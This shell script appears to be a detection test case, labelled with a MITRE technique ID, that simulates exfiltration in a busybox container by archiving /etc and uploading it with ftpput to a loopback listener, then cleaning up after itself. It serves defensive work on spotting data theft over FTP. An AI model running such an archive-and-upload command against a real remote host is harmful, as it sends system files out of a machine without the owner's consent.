#!/bin/sh
# case: T1048-ftpput-to-listener
# technique: File sent with ftpput and tftp
# source: busybox exfiltration
# needs: ftpput
# expect: net file exec
# where: container
# image: busybox
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
W=${TMPDIR:-/tmp}/ho.$$; mkdir -p "$W" || exit 77
trap 'cd / && rm -rf "$W"' EXIT; trap 'exit 1' INT TERM
need ftpput
tar cf "$W/x.tar" /etc 2>/dev/null; ftpput -P 2121 127.0.0.1 up.tar "$W/x.tar" 2>/dev/null; true
exit 0
